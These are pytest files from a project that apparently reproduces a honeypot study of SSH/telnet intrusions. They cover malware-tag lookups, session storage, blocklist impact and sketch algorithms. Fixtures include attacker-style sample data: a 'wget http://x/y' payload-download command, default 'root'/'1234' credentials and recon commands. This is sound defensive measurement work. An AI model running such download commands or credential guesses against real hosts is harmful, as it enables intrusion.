        db.register("abc", ThreatTag.MIRAI, family="H4")
        entry = db.lookup("abc")
        assert entry is not None
        assert entry.tag is ThreatTag.MIRAI
        assert entry.family == "H4"

    def test_lookup_miss(self):
        assert IntelDatabase().lookup("missing") is None

    def test_tag_of_unknown(self):
        assert IntelDatabase().tag_of("missing") is ThreatTag.UNKNOWN

    def test_tags_for(self):
        db = IntelDatabase()
        db.register("a", ThreatTag.TROJAN)
        tags = db.tags_for(["a", "b"])
        assert tags["a"] is ThreatTag.TROJAN
        assert tags["b"] is ThreatTag.UNKNOWN

    def test_coverage(self):
        db = IntelDatabase()
        db.register("a", ThreatTag.TROJAN)
        assert db.coverage(["a", "b", "c", "d"]) == 0.25
        assert db.coverage([]) == 0.0

    def test_hit_accounting(self):
        db = IntelDatabase()
        db.register("a", ThreatTag.MINER)
        db.lookup("a")
        db.lookup("b")
        assert db.lookups == 2
        assert db.hits == 1

    def test_contains_and_len(self):
        db = IntelDatabase()
        db.register("a", ThreatTag.SUSPICIOUS)
        assert "a" in db
        assert "b" not in db
        assert len(db) == 1

    def test_reregister_overwrites(self):
        db = IntelDatabase()
        db.register("a", ThreatTag.SUSPICIOUS)
        db.register("a", ThreatTag.MALICIOUS)
        assert db.tag_of("a") is ThreatTag.MALICIOUS
        assert len(db) == 1

    def test_tag_partitions(self):
        assert set(FAMILY_TAGS).isdisjoint(FLAG_TAGS)
        assert ThreatTag.UNKNOWN not in FAMILY_TAGS
