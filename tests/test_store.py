"""Tests for the columnar session store (interning, builder, round trips)."""

import numpy as np
import pytest

from repro.store.interning import StringTable
from repro.store.records import CommandScript, SessionRecord
from repro.store.store import PROTOCOL_SSH, PROTOCOL_TELNET, StoreBuilder


def make_record(**overrides):
    base = dict(
        start_time=86_400.0 + 100.0,
        duration=12.5,
        honeypot_id="hp-001",
        protocol="ssh",
        client_ip=0x0A000001,
        client_asn=65001,
        client_country="CN",
        n_login_attempts=2,
        login_success=True,
        username="root",
        password="1234",
        commands=("uname -a", "free"),
        uris=(),
        file_hashes=("a" * 64,),
        close_reason="client-disconnect",
        client_version="SSH-2.0-Go",
    )
    base.update(overrides)
    return SessionRecord(**base)


class TestStringTable:
    def test_intern_stable_ids(self):
        table = StringTable()
        assert table.intern("a") == 0
        assert table.intern("b") == 1
        assert table.intern("a") == 0

    def test_value_roundtrip(self):
        table = StringTable(["x", "y"])
        assert table.value_of(table.id_of("y")) == "y"

    def test_contains_len(self):
        table = StringTable(["x"])
        assert "x" in table
        assert "y" not in table
        assert len(table) == 1

    def test_get_id_missing(self):
        assert StringTable().get_id("nope") is None

    def test_id_of_missing_raises(self):
        with pytest.raises(KeyError):
            StringTable().id_of("nope")

    def test_values_copy(self):
        table = StringTable(["x"])
        values = table.values()
        values.append("mutate")
        assert len(table) == 1


class TestBuilderRoundtrip:
    def test_append_and_read_back(self):
        builder = StoreBuilder()
        record = make_record()
        builder.append(record)
        store = builder.build()
        assert len(store) == 1
        back = store.record(0)
        assert back == record

    def test_day_column(self):
        builder = StoreBuilder()
        builder.append(make_record(start_time=3 * 86_400.0 + 5))
        store = builder.build()
        assert store.day[0] == 3
        assert store.n_days == 4

    def test_script_interning_shares(self):
        builder = StoreBuilder()
        builder.append(make_record())
        builder.append(make_record(client_ip=9))
        store = builder.build()
        assert len(store.scripts) == 1
        assert store.script_id[0] == store.script_id[1] == 0

    def test_different_scripts_distinct(self):
        builder = StoreBuilder()
        builder.append(make_record())
        builder.append(make_record(commands=("ls",)))
        assert len(builder.scripts) == 2

    def test_empty_script_is_minus_one(self):
        builder = StoreBuilder()
        builder.append(make_record(commands=(), file_hashes=()))
        store = builder.build()
        assert store.script_id[0] == -1
        assert store.n_commands[0] == 0

    def test_n_commands_and_has_uri(self):
        builder = StoreBuilder()
        builder.append(make_record(commands=("wget http://x/y",), uris=("http://x/y",)))
        store = builder.build()
        assert store.n_commands[0] == 1
        assert bool(store.has_uri[0])

    def test_protocol_codes(self):
        builder = StoreBuilder()
        builder.append(make_record(protocol="ssh"))
        builder.append(make_record(protocol="telnet"))
        store = builder.build()
        assert store.protocol[0] == PROTOCOL_SSH
        assert store.protocol[1] == PROTOCOL_TELNET
        assert store.is_ssh[0] and store.is_telnet[1]

    def test_hash_interning(self):
        builder = StoreBuilder()
        builder.append(make_record())
        builder.append(make_record(file_hashes=("a" * 64, "b" * 64)))
        store = builder.build()
        assert len(store.hashes) == 2
        assert store.hash_ids[0] == (0,)
        assert store.hash_ids[1] == (0, 1)

    def test_empty_store(self):
        store = StoreBuilder().build()
        assert len(store) == 0
        assert store.n_days == 0

    def test_missing_credentials(self):
        builder = StoreBuilder()
        builder.append(make_record(username="", password="", client_version=""))
        store = builder.build()
        record = store.record(0)
        assert record.username == ""
        assert record.password == ""
        assert record.client_version == ""

    def test_iteration(self):
        builder = StoreBuilder()
        for i in range(5):
            builder.append(make_record(client_ip=i))
        store = builder.build()
        assert len(list(store)) == 5

    def test_append_block_matches_per_row(self):
        b1 = StoreBuilder()
        b1.append(make_record())
        b2 = StoreBuilder()
        script_id = b2.intern_script(("uname -a", "free"), ())
        b2.append_block(
            start_time=[86_500.0], duration=[12.5],
            honeypot_id=[b2.honeypots.intern("hp-001")],
            protocol=[0], client_ip=[0x0A000001], client_asn=[65001],
            client_country_id=[b2.countries.intern("CN")],
            n_attempts=[2], login_success=[True], script_id=[script_id],
            password_id=[b2.passwords.intern("1234")],
            username_id=[b2.usernames.intern("root")],
            hash_ids=[(b2.hashes.intern("a" * 64),)],
            close_reason_id=[0],
            version_id=[b2.versions.intern("SSH-2.0-Go")],
        )
        s1, s2 = b1.build(), b2.build()
        assert s1.record(0) == s2.record(0)

    def test_append_block_length_mismatch(self):
        builder = StoreBuilder()
        with pytest.raises(ValueError):
            builder.append_block(
                start_time=[1.0], duration=[1.0, 2.0], honeypot_id=[0],
                protocol=[0], client_ip=[0], client_asn=[0],
                client_country_id=[0], n_attempts=[0], login_success=[False],
                script_id=[-1], password_id=[-1], username_id=[-1],
                hash_ids=[()], close_reason_id=[0], version_id=[-1],
            )


class TestCommandScript:
    def test_has_uri(self):
        assert CommandScript(("wget x",), ("http://x",)).has_uri
        assert not CommandScript(("uname",)).has_uri

    def test_key(self):
        script = CommandScript(("a",), ("u",))
        assert script.key() == (("a",), ("u",))


class TestJsonl:
    def test_roundtrip(self, tmp_path):
        from repro.store.io import read_jsonl, write_jsonl
        records = [make_record(client_ip=i) for i in range(10)]
        path = tmp_path / "trace.jsonl"
        assert write_jsonl(records, path) == 10
        store = read_jsonl(path)
        assert len(store) == 10
        assert store.record(3).client_ip == 3

    def test_gzip_roundtrip(self, tmp_path):
        from repro.store.io import read_jsonl, write_jsonl
        path = tmp_path / "trace.jsonl.gz"
        write_jsonl([make_record()], path)
        store = read_jsonl(path)
        assert store.record(0) == make_record()

    def test_iter_streaming(self, tmp_path):
        from repro.store.io import iter_jsonl, write_jsonl
        path = tmp_path / "t.jsonl"
        write_jsonl([make_record(client_ip=i) for i in range(3)], path)
        assert sum(1 for _ in iter_jsonl(path)) == 3

    def test_missing_optional_fields(self, tmp_path):
        import json
        from repro.store.io import iter_jsonl
        path = tmp_path / "m.jsonl"
        path.write_text(json.dumps({
            "start_time": 0.0, "duration": 1.0, "honeypot_id": "h",
            "protocol": "ssh", "client_ip": 1,
        }) + "\n")
        record = next(iter_jsonl(path))
        assert record.client_asn == -1
        assert record.commands == ()
