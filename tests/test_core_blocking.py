"""Tests for the blocking / takedown analysis (Section 9)."""

import numpy as np
import pytest

from repro.core.blocking import (
    blockable_campaigns,
    blocklist_impact,
    blocklist_sweep,
)
from repro.core.hashes import HashOccurrences, compute_hash_stats
from repro.intel.database import IntelDatabase
from repro.intel.tags import ThreatTag
from repro.store.records import SessionRecord
from repro.store.store import StoreBuilder

H_FEW = "f" * 64  # campaign by 2 IPs across 40 days
H_BOT = "b" * 64  # botnet hash with 50 IPs, 2 days


def build_store():
    builder = StoreBuilder()
    for day in range(40):
        builder.append(SessionRecord(
            start_time=day * 86_400.0, duration=1.0, honeypot_id="p0",
            protocol="ssh", client_ip=1 + day % 2, client_asn=1,
            client_country="US", n_login_attempts=1, login_success=True,
            commands=("x",), file_hashes=(H_FEW,),
        ))
    for i in range(50):
        builder.append(SessionRecord(
            start_time=100.0 + i, duration=1.0, honeypot_id="p1",
            protocol="ssh", client_ip=1000 + i, client_asn=2,
            client_country="CN", n_login_attempts=1, login_success=True,
            commands=("x",), file_hashes=(H_BOT,),
        ))
    return builder.build()


class TestBlockableCampaigns:
    def test_finds_few_ip_campaign(self):
        store = build_store()
        intel = IntelDatabase()
        intel.register(H_FEW, ThreatTag.TROJAN)
        stats = compute_hash_stats(HashOccurrences.build(store))
        campaigns = blockable_campaigns(stats, store, intel,
                                        max_ips=5, min_days=30)
        assert len(campaigns) == 1
        c = campaigns[0]
        assert c.sha256 == H_FEW
        assert c.n_clients == 2
        assert c.n_days == 40
        assert c.tag == "trojan"

    def test_botnet_not_blockable(self):
        store = build_store()
        stats = compute_hash_stats(HashOccurrences.build(store))
        campaigns = blockable_campaigns(stats, store, IntelDatabase(),
                                        max_ips=5, min_days=1)
        assert all(c.sha256 != H_BOT for c in campaigns)

    def test_sorted_by_days(self, small_dataset):
        occ = HashOccurrences.build(small_dataset.store)
        stats = compute_hash_stats(occ)
        campaigns = blockable_campaigns(stats, small_dataset.store,
                                        small_dataset.intel)
        days = [c.n_days for c in campaigns]
        assert days == sorted(days, reverse=True)

    def test_paper_claim_on_generated(self, small_dataset):
        # The paper observes long-lived few-IP campaigns (H2, H38, H40,
        # H41...); the generated farm must contain them too.
        occ = HashOccurrences.build(small_dataset.store)
        stats = compute_hash_stats(occ)
        campaigns = blockable_campaigns(stats, small_dataset.store,
                                        small_dataset.intel,
                                        max_ips=5, min_days=30)
        assert len(campaigns) >= 3


class TestBlocklistImpact:
    def test_blocking_both_few_ips(self):
        store = build_store()
        impact = blocklist_impact(store, blocklist_size=2)
        # The two busiest intrusion IPs are the few-IP campaign's pair.
        assert set(impact.blocked_ips.tolist()) == {1, 2}
        assert impact.intrusion_sessions_blocked == pytest.approx(40 / 90)
        assert impact.hashes_fully_blocked == pytest.approx(0.5)

    def test_blocking_everything(self):
        store = build_store()
        impact = blocklist_impact(store, blocklist_size=100)
        assert impact.intrusion_sessions_blocked == pytest.approx(1.0)
        assert impact.hashes_fully_blocked == pytest.approx(1.0)

    def test_empty_store(self):
        impact = blocklist_impact(StoreBuilder().build(), blocklist_size=10)
        assert impact.intrusion_sessions_blocked == 0.0

    def test_sweep_monotone(self, small_dataset):
        sweep = blocklist_sweep(small_dataset.store, [10, 100, 1000])
        blocked = [sweep[k].intrusion_sessions_blocked for k in (10, 100, 1000)]
        assert blocked[0] <= blocked[1] <= blocked[2]

    def test_diminishing_returns(self, small_dataset):
        # A small blocklist already removes a disproportionate share of
        # intrusion sessions (the few-IP heavy hitters).
        sweep = blocklist_sweep(small_dataset.store, [20, 200])
        per_ip_small = sweep[20].intrusion_sessions_blocked / 20
        per_ip_large = sweep[200].intrusion_sessions_blocked / 200
        assert per_ip_small > per_ip_large
