"""Tests for IPv4 addresses and prefixes."""

import pytest

from repro.net.ip import IPv4Address, IPv4Prefix, format_ip, parse_ip


class TestParseFormat:
    def test_parse_basic(self):
        assert parse_ip("10.0.0.1") == (10 << 24) | 1

    def test_parse_zero(self):
        assert parse_ip("0.0.0.0") == 0

    def test_parse_max(self):
        assert parse_ip("255.255.255.255") == 0xFFFFFFFF

    def test_format_roundtrip(self):
        for text in ("1.2.3.4", "192.0.2.255", "0.0.0.0", "255.255.255.255"):
            assert format_ip(parse_ip(text)) == text

    @pytest.mark.parametrize("bad", [
        "1.2.3", "1.2.3.4.5", "256.1.1.1", "1.2.3.a", "01.2.3.4", "", "1..2.3",
    ])
    def test_parse_rejects_invalid(self, bad):
        with pytest.raises(ValueError):
            parse_ip(bad)

    def test_format_rejects_out_of_range(self):
        with pytest.raises(ValueError):
            format_ip(-1)
        with pytest.raises(ValueError):
            format_ip(2 ** 32)


class TestIPv4Address:
    def test_str(self):
        assert str(IPv4Address.parse("198.51.100.7")) == "198.51.100.7"

    def test_int_conversion(self):
        assert int(IPv4Address(42)) == 42

    def test_ordering(self):
        assert IPv4Address.parse("1.0.0.1") < IPv4Address.parse("1.0.0.2")

    def test_out_of_range_rejected(self):
        with pytest.raises(ValueError):
            IPv4Address(2 ** 32)


class TestIPv4Prefix:
    def test_parse(self):
        p = IPv4Prefix.parse("192.0.2.0/24")
        assert p.length == 24
        assert str(p) == "192.0.2.0/24"

    def test_num_addresses(self):
        assert IPv4Prefix.parse("10.0.0.0/8").num_addresses == 2 ** 24
        assert IPv4Prefix.parse("10.0.0.0/32").num_addresses == 1

    def test_contains(self):
        p = IPv4Prefix.parse("192.0.2.0/24")
        assert p.contains(parse_ip("192.0.2.1"))
        assert p.contains(parse_ip("192.0.2.255"))
        assert not p.contains(parse_ip("192.0.3.0"))

    def test_contains_operator(self):
        p = IPv4Prefix.parse("10.0.0.0/8")
        assert IPv4Address.parse("10.1.2.3") in p

    def test_host_bits_rejected(self):
        with pytest.raises(ValueError):
            IPv4Prefix(parse_ip("192.0.2.1"), 24)

    def test_bad_length_rejected(self):
        with pytest.raises(ValueError):
            IPv4Prefix(0, 33)

    def test_address_at(self):
        p = IPv4Prefix.parse("192.0.2.0/24")
        assert format_ip(p.address_at(0)) == "192.0.2.0"
        assert format_ip(p.address_at(255)) == "192.0.2.255"

    def test_address_at_out_of_range(self):
        p = IPv4Prefix.parse("192.0.2.0/24")
        with pytest.raises(IndexError):
            p.address_at(256)

    def test_first_last(self):
        p = IPv4Prefix.parse("192.0.2.0/30")
        assert format_ip(p.first) == "192.0.2.0"
        assert format_ip(p.last) == "192.0.2.3"

    def test_subnets(self):
        p = IPv4Prefix.parse("192.0.2.0/24")
        subs = list(p.subnets(26))
        assert len(subs) == 4
        assert str(subs[0]) == "192.0.2.0/26"
        assert str(subs[-1]) == "192.0.2.192/26"

    def test_subnets_invalid_length(self):
        with pytest.raises(ValueError):
            list(IPv4Prefix.parse("10.0.0.0/24").subnets(16))

    def test_zero_length_prefix(self):
        p = IPv4Prefix(0, 0)
        assert p.contains(parse_ip("255.255.255.255"))
        assert p.mask == 0

    def test_parse_invalid(self):
        with pytest.raises(ValueError):
            IPv4Prefix.parse("10.0.0.0")
