"""Differential suite: scalar vs block emission paths.

The block engine buffers day-blocks and flushes them as one adoption per
shard; the scalar path writes every block straight to the builder.  The two
must be indistinguishable in everything but speed: byte-identical stores
(sha256 over the frozen npz columns) at every scale, worker count and
backend, bit-equal per-category session counts, and identical
streaming-analytics state.
"""

from __future__ import annotations

import numpy as np
import pytest

import repro
from repro.analytics import StreamingAnalytics
from repro.core.classify import CATEGORIES, classify_store
from repro.obs import get_metrics
from repro.store.store import StoreBuilder
from repro.workload import ScenarioConfig
from repro.workload.blocks import BlockEmitter, emit_path, make_emitter
from repro.workload.emit import SessionEmitter
from repro.simulation.rng import RngStream

TINY = ScenarioConfig(scale=1 / 80000, seed=7, hash_scale=0.004)
MID = ScenarioConfig.from_denominator(40000)
SMOKE_4000 = ScenarioConfig.from_denominator(4000, seed=2023)


def generate_store(config, path, backend="inline", workers=1):
    import os

    saved = os.environ.get("REPRO_EMIT_PATH")
    os.environ["REPRO_EMIT_PATH"] = path
    try:
        return repro.generate(config, backend=backend, workers=workers).store
    finally:
        if saved is None:
            os.environ.pop("REPRO_EMIT_PATH", None)
        else:
            os.environ["REPRO_EMIT_PATH"] = saved


# -- path selection ----------------------------------------------------------


def test_emit_path_defaults_to_block(monkeypatch):
    monkeypatch.delenv("REPRO_EMIT_PATH", raising=False)
    assert emit_path() == "block"


@pytest.mark.parametrize("raw, want", [
    ("scalar", "scalar"), ("block", "block"),
    ("  SCALAR ", "scalar"), ("", "block"),
])
def test_emit_path_parses_env(monkeypatch, raw, want):
    monkeypatch.setenv("REPRO_EMIT_PATH", raw)
    assert emit_path() == want


def test_emit_path_rejects_unknown(monkeypatch):
    monkeypatch.setenv("REPRO_EMIT_PATH", "turbo")
    with pytest.raises(ValueError, match="REPRO_EMIT_PATH"):
        emit_path()


def test_make_emitter_selects_class(monkeypatch):
    monkeypatch.setenv("REPRO_EMIT_PATH", "block")
    emitter = make_emitter(StoreBuilder(), RngStream(1, "t"))
    assert type(emitter) is BlockEmitter
    monkeypatch.setenv("REPRO_EMIT_PATH", "scalar")
    emitter = make_emitter(StoreBuilder(), RngStream(1, "t"))
    assert type(emitter) is SessionEmitter


def test_flush_on_empty_emitter_is_a_noop():
    emitter = BlockEmitter(StoreBuilder(), RngStream(1, "t"))
    before = get_metrics().to_dict()["counters"].get("emit.block.flushes", 0)
    emitter.flush()
    after = get_metrics().to_dict()["counters"].get("emit.block.flushes", 0)
    assert after == before


# -- byte identity across the matrix -----------------------------------------


def test_tiny_matrix_byte_identical():
    """workers {1, 2, 4} x {inline, pool}: scalar == block, one digest."""
    combos = [("inline", 1), ("pool", 1), ("pool", 2), ("pool", 4)]
    digests = {
        (path, backend, workers): generate_store(
            TINY, path, backend=backend, workers=workers
        ).content_digest()
        for path in ("scalar", "block")
        for backend, workers in combos
    }
    assert len(set(digests.values())) == 1, digests


def test_mid_scale_byte_identical():
    scalar = generate_store(MID, "scalar")
    block = generate_store(MID, "block")
    assert scalar.content_digest() == block.content_digest()


@pytest.mark.slow
def test_scale_4000_smoke_byte_identical():
    scalar = generate_store(SMOKE_4000, "scalar")
    block = generate_store(SMOKE_4000, "block")
    assert scalar.content_digest() == block.content_digest()


def test_serial_backend_byte_identical():
    # The serial single-pass generator flushes through the same seam.
    scalar = generate_store(TINY, "scalar", backend="serial")
    block = generate_store(TINY, "block", backend="serial")
    assert scalar.content_digest() == block.content_digest()


# -- per-category counts and streaming state ---------------------------------


def test_per_category_counts_bit_equal():
    scalar = generate_store(MID, "scalar")
    block = generate_store(MID, "block")
    scalar_mix = np.bincount(classify_store(scalar), minlength=len(CATEGORIES))
    block_mix = np.bincount(classify_store(block), minlength=len(CATEGORIES))
    assert np.array_equal(scalar_mix, block_mix)
    assert int(scalar_mix.sum()) == len(scalar) == len(block)


def test_streaming_analytics_identical_on_both_paths():
    scalar = generate_store(TINY, "scalar")
    block = generate_store(TINY, "block")
    a, b = StreamingAnalytics(), StreamingAnalytics()
    a.ingest_store(scalar)
    b.ingest_store(block)
    assert a == b
    assert a.session_count() == len(scalar)
    assert a.category_counts() == b.category_counts()
    assert np.array_equal(a.sessions_per_day(), b.sessions_per_day())


# -- block-path instrumentation ----------------------------------------------


def test_block_path_metrics_account_for_every_session():
    before = get_metrics().to_dict()["counters"]
    store = generate_store(TINY, "block")
    after = get_metrics().to_dict()["counters"]

    def moved(name):
        return after.get(name, 0) - before.get(name, 0)

    assert moved("emit.block.rows") == len(store)
    assert moved("emit.block.flushes") >= 1
    assert moved("emit.block.buffered_blocks") > 0
    assert moved("emit.block.buffered_rows") >= 0
    assert (moved("emit.block.buffered_blocks") > 0
            or moved("emit.block.buffered_rows") > 0)


def test_scalar_path_emits_no_block_metrics():
    before = get_metrics().to_dict()["counters"]
    generate_store(TINY, "scalar")
    after = get_metrics().to_dict()["counters"]
    for name in ("emit.block.rows", "emit.block.flushes",
                 "emit.block.buffered_blocks"):
        assert after.get(name, 0) == before.get(name, 0), name
