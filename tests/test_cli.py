"""Tests for the ``python -m repro`` command-line interface."""

import pytest

from repro.__main__ import main


class TestCli:
    def test_report(self, capsys):
        assert main(["report", "--scale", "40000", "--seed", "3",
                     "--hash-scale", "0.005"]) == 0
        out = capsys.readouterr().out
        assert "paper" in out
        assert "SSH share" in out

    def test_generate_npz(self, tmp_path, capsys):
        out_path = tmp_path / "trace.npz"
        assert main(["generate", "--scale", "40000", "--seed", "3",
                     "--hash-scale", "0.005", "--out", str(out_path)]) == 0
        assert out_path.exists()
        from repro.store.npz import load_npz
        store = load_npz(out_path)
        assert len(store) > 1000

    def test_generate_jsonl(self, tmp_path):
        out_path = tmp_path / "trace.jsonl.gz"
        assert main(["generate", "--scale", "80000", "--seed", "3",
                     "--hash-scale", "0.005", "--out", str(out_path)]) == 0
        from repro.store.io import read_jsonl
        store = read_jsonl(out_path)
        assert len(store) > 500

    def test_tables(self, capsys):
        assert main(["tables", "--scale", "40000", "--seed", "3",
                     "--hash-scale", "0.005"]) == 0
        out = capsys.readouterr().out
        assert "Table 1" in out
        assert "Table 6" in out
        assert "H1" in out

    def test_validate(self, capsys):
        code = main(["validate", "--scale", "20000", "--seed", "99",
                     "--hash-scale", "0.008"])
        out = capsys.readouterr().out
        assert "calibration:" in out
        assert code == 0, out

    def test_requires_command(self):
        with pytest.raises(SystemExit):
            main([])

    def test_report_cache_dir_hit(self, tmp_path, capsys):
        from repro.obs import get_metrics

        args = ["report", "--scale", "80000", "--seed", "3",
                "--hash-scale", "0.005", "--cache-dir", str(tmp_path)]
        assert main(args) == 0
        first = capsys.readouterr().out
        snapshot = get_metrics().to_dict()
        assert main(args) == 0
        second = capsys.readouterr().out
        assert first == second
        delta = get_metrics().delta_since(snapshot)
        assert delta["counters"].get("cache.hits") == 1

    def test_report_cache_env_var(self, tmp_path, monkeypatch, capsys):
        from repro.obs import get_metrics

        monkeypatch.setenv("REPRO_CACHE", str(tmp_path))
        args = ["report", "--scale", "80000", "--seed", "4",
                "--hash-scale", "0.005"]
        assert main(args) == 0
        snapshot = get_metrics().to_dict()
        assert main(args) == 0
        capsys.readouterr()
        assert get_metrics().delta_since(snapshot)["counters"].get(
            "cache.hits") == 1

    def test_report_load_npz(self, tmp_path, capsys):
        trace = tmp_path / "trace.npz"
        assert main(["generate", "--scale", "80000", "--seed", "3",
                     "--hash-scale", "0.005", "--out", str(trace)]) == 0
        capsys.readouterr()
        assert main(["report", "--scale", "80000", "--seed", "3",
                     "--load", str(trace)]) == 0
        out = capsys.readouterr().out
        assert "SSH share" in out

    def test_tables_load_dataset_dir(self, tmp_path, capsys):
        from repro.workload import ScenarioConfig, generate_dataset
        from repro.workload.io import save_dataset

        dataset = generate_dataset(
            ScenarioConfig(scale=1 / 80000, seed=3, hash_scale=0.005))
        save_dataset(dataset, tmp_path / "bundle")
        assert main(["tables", "--scale", "80000", "--seed", "3",
                     "--load", str(tmp_path / "bundle")]) == 0
        out = capsys.readouterr().out
        assert "Table 1" in out

    def test_load_rejects_unknown_format(self, tmp_path):
        bogus = tmp_path / "trace.csv"
        bogus.write_text("nope")
        with pytest.raises(SystemExit):
            main(["report", "--scale", "80000", "--load", str(bogus)])
