"""Tests for the ``python -m repro`` command-line interface."""

import pytest

from repro.__main__ import main


class TestCli:
    def test_report(self, capsys):
        assert main(["report", "--scale", "40000", "--seed", "3",
                     "--hash-scale", "0.005"]) == 0
        out = capsys.readouterr().out
        assert "paper" in out
        assert "SSH share" in out

    def test_generate_npz(self, tmp_path, capsys):
        out_path = tmp_path / "trace.npz"
        assert main(["generate", "--scale", "40000", "--seed", "3",
                     "--hash-scale", "0.005", "--out", str(out_path)]) == 0
        assert out_path.exists()
        from repro.store.npz import load_npz
        store = load_npz(out_path)
        assert len(store) > 1000

    def test_generate_jsonl(self, tmp_path):
        out_path = tmp_path / "trace.jsonl.gz"
        assert main(["generate", "--scale", "80000", "--seed", "3",
                     "--hash-scale", "0.005", "--out", str(out_path)]) == 0
        from repro.store.io import read_jsonl
        store = read_jsonl(out_path)
        assert len(store) > 500

    def test_tables(self, capsys):
        assert main(["tables", "--scale", "40000", "--seed", "3",
                     "--hash-scale", "0.005"]) == 0
        out = capsys.readouterr().out
        assert "Table 1" in out
        assert "Table 6" in out
        assert "H1" in out

    def test_validate(self, capsys):
        code = main(["validate", "--scale", "20000", "--seed", "99",
                     "--hash-scale", "0.008"])
        out = capsys.readouterr().out
        assert "calibration:" in out
        assert code == 0, out

    def test_requires_command(self):
        with pytest.raises(SystemExit):
            main([])
