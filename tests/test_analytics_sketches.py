"""Property suites pinning the sketch algebra (``repro.analytics.sketches``).

Hypothesis pins the *sound* invariants — the ones that hold for every
input: merge commutativity/associativity (idempotence for HLL), count
monotonicity, one-sided count-min error, the Misra–Gries lower/upper
bound envelope.  The *probabilistic* accuracy claims (HLL relative
error, count-min ``epsilon * N`` slack) are checked on fixed
deterministic sample sets, where the documented bounds must hold for
the pinned seeds — hypothesis-generated adversaries are exactly the
inputs those guarantees are *not* made for.
"""

from __future__ import annotations

import math
from collections import Counter

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.analytics.sketches import (
    CountMinSketch,
    ExactCounter,
    HyperLogLog,
    SpaceSaving,
    hash_key,
    hash_keys,
)

SEED = 99

keys = st.integers(min_value=0, max_value=60)
key_lists = st.lists(keys, max_size=80)
str_keys = st.text(alphabet="abcdef0123456789", min_size=1, max_size=8)


def build_hll(values, p=8, name="t"):
    h = HyperLogLog(SEED, name, p)
    h.add_many(list(values))
    return h


def build_cms(values, width=64, depth=3, name="c"):
    c = CountMinSketch(SEED, name, width, depth)
    c.add_many(list(values))
    return c


def build_ss(values, capacity=4, name="s"):
    s = SpaceSaving(capacity, name)
    s.add_many(values)
    return s


class TestHashing:
    def test_hash_key_deterministic_and_seeded(self):
        assert hash_key(42, 7) == hash_key(42, 7)
        assert hash_key(42, 7) != hash_key(42, 8)
        assert hash_key("ab", 7) == hash_key("ab", 7)
        assert hash_key("ab", 7) != hash_key("ab", 8)

    def test_hash_keys_matches_scalar(self):
        values = [0, 1, 2, 2**63, 2**64 - 1]
        vec = hash_keys(values, 123)
        assert [int(v) for v in vec] == [hash_key(v, 123) for v in values]
        strs = ["", "a", "deadbeef"]
        vec_s = hash_keys(strs, 123)
        assert [int(v) for v in vec_s] == [hash_key(s, 123) for s in strs]

    def test_empty_input(self):
        assert len(hash_keys([], 1)) == 0


class TestHyperLogLog:
    @given(a=key_lists, b=key_lists)
    def test_merge_commutative(self, a, b):
        assert build_hll(a).merge(build_hll(b)) == build_hll(b).merge(build_hll(a))

    @given(a=key_lists, b=key_lists, c=key_lists)
    @settings(max_examples=50)
    def test_merge_associative(self, a, b, c):
        left = build_hll(a).merge(build_hll(b)).merge(build_hll(c))
        right = build_hll(a).merge(build_hll(b).merge(build_hll(c)))
        assert left == right

    @given(a=key_lists)
    def test_merge_idempotent(self, a):
        h = build_hll(a)
        assert h.copy().merge(h) == h

    @given(a=key_lists, b=key_lists)
    def test_merge_equals_union_stream(self, a, b):
        # Folding two shard sketches == sketching the concatenated stream.
        assert build_hll(a).merge(build_hll(b)) == build_hll(a + b)

    @given(a=key_lists, b=key_lists)
    def test_registers_monotone_under_adds(self, a, b):
        before = build_hll(a)
        after = build_hll(a + b)
        assert np.all(after.registers >= before.registers)

    @given(a=key_lists)
    def test_estimate_deterministic(self, a):
        assert build_hll(a).estimate() == build_hll(a).estimate()

    def test_different_stream_names_derive_different_seeds(self):
        assert build_hll([1, 2, 3], name="x").seed != \
            build_hll([1, 2, 3], name="y").seed

    def test_incompatible_merge_raises(self):
        with pytest.raises(ValueError):
            build_hll([], p=8).merge(build_hll([], p=10))
        with pytest.raises(ValueError):
            build_hll([], name="x").merge(build_hll([], name="y"))

    def test_small_cardinalities_essentially_exact(self):
        # Linear-counting regime at p=12 (m=4096).
        for n in (0, 1, 10, 100, 500):
            est = build_hll(range(n), p=12).estimate()
            assert abs(est - n) <= max(1.0, 0.01 * n)

    def test_documented_error_bound_on_fixed_sets(self):
        # |est - n| / n <= 3 * 1.04/sqrt(m) for pinned seeds/sets.
        h = HyperLogLog(SEED, "t", 12)
        assert h.rel_error == pytest.approx(1.04 / math.sqrt(4096))
        for n in (2_000, 10_000, 50_000):
            ints = build_hll(range(n), p=12)
            assert abs(ints.estimate() - n) / n <= 3 * ints.rel_error
            strs = build_hll([f"k{i}" for i in range(n)], p=12)
            assert abs(strs.estimate() - n) / n <= 3 * strs.rel_error

    def test_interval_brackets_truth_on_fixed_sets(self):
        h = build_hll(range(10_000), p=12)
        low, high = h.interval()
        assert low <= 10_000 <= high

    def test_p_range_validated(self):
        with pytest.raises(ValueError):
            HyperLogLog(SEED, "t", p=3)
        with pytest.raises(ValueError):
            HyperLogLog(SEED, "t", p=19)


class TestCountMin:
    @given(a=key_lists)
    def test_one_sided_overestimate(self, a):
        c = build_cms(a)
        true = Counter(a)
        for key, count in true.items():
            assert c.estimate(key) >= count
        assert c.total == len(a)

    @given(a=key_lists, b=key_lists)
    def test_merge_commutative(self, a, b):
        assert build_cms(a).merge(build_cms(b)) == build_cms(b).merge(build_cms(a))

    @given(a=key_lists, b=key_lists, c=key_lists)
    @settings(max_examples=50)
    def test_merge_associative(self, a, b, c):
        left = build_cms(a).merge(build_cms(b)).merge(build_cms(c))
        right = build_cms(a).merge(build_cms(b).merge(build_cms(c)))
        assert left == right

    @given(a=key_lists, b=key_lists)
    def test_merge_equals_union_stream(self, a, b):
        assert build_cms(a).merge(build_cms(b)) == build_cms(a + b)

    @given(a=key_lists, b=key_lists)
    def test_estimates_monotone_under_adds(self, a, b):
        before = build_cms(a)
        after = build_cms(a + b)
        for key in set(a) | set(b):
            assert after.estimate(key) >= before.estimate(key)

    @given(a=key_lists)
    def test_weighted_adds_equal_repeats(self, a):
        weighted = CountMinSketch(SEED, "c", 64, 3)
        for key, count in sorted(Counter(a).items()):
            weighted.add(key, count)
        repeated = build_cms(sorted(a))
        assert weighted == repeated

    def test_documented_epsilon_delta(self):
        c = CountMinSketch(SEED, "c", width=2048, depth=4)
        assert c.epsilon == pytest.approx(math.e / 2048)
        assert c.delta == pytest.approx(math.exp(-4))

    def test_error_bound_holds_on_fixed_stream(self):
        # A pinned stream of 500 keys x 40 occurrences.  The eps*N slack
        # is a per-query guarantee at confidence 1 - delta, not a uniform
